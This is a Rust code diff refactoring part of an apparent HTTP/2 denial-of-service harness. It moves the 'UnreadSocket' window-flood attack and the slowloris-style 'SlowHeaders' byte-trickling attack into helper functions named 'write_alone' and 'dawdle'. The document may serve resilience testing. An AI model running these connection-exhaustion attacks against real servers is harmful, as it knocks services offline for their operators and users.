@@ -155,22 +155,8 @@ async fn once(attack: Attack, from: Ipv4Addr, means: &Means) -> anyhow::Result<(
     let mut socket = connect(from, means).await?;
     match attack {
         Attack::HalfHandshakes => return wait(socket).await,
-        Attack::UnreadSocket => {
-            socket.write_all(&preface(1 << 30)).await?;
-            // The library would stop at the connection's window; this one never has to.
-            socket.write_all(&frame(WINDOW_UPDATE, 0, 0, &(1_u32 << 30).to_be_bytes())).await?;
-            for stream in streams() {
-                socket.write_all(&signed(stream, &means.traitor, means)).await?;
-            }
-            return Ok(());
-        }
-        Attack::SlowHeaders => {
-            for byte in [preface(WINDOW), frame(HEADERS, 0, 1, &[0; 1_000])].concat() {
-                socket.write_all(&[byte]).await?;
-                tokio::time::sleep(Duration::from_millis(200)).await;
-            }
-            return Ok(());
-        }
+        Attack::UnreadSocket => return write_alone(socket, means).await,
+        Attack::SlowHeaders => return dawdle(socket).await,
         _ => {}
     }
     let window = if attack == Attack::UnreadStreams { 0 } else { WINDOW };
@@ -226,6 +212,25 @@ async fn once(attack: Attack, from: Ipv4Addr, means: &Means) -> anyhow::Result<(
         written = writes => written,
         _ = drain.join_next() => Ok(()),
     }
+}
+
+/// Asks and never reads: the library would stop at the connection's window, and this one is told that it is large.
+async fn write_alone(mut socket: TcpStream, means: &Means) -> anyhow::Result<()> {
+    socket.write_all(&preface(1 << 30)).await?;
+    socket.write_all(&frame(WINDOW_UPDATE, 0, 0, &(1_u32 << 30).to_be_bytes())).await?;
+    for stream in streams() {
+        socket.write_all(&signed(stream, &means.traitor, means)).await?;
+    }
+    Ok(())
+}
+
+/// A byte now and then.
+async fn dawdle(mut socket: TcpStream) -> anyhow::Result<()> {
+    for byte in [preface(WINDOW), frame(HEADERS, 0, 1, &[0; 1_000])].concat() {
+        socket.write_all(&[byte]).await?;
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    Ok(())
 }
 
 /// Between one request and the next, where an attack isn't as fast as it can be.
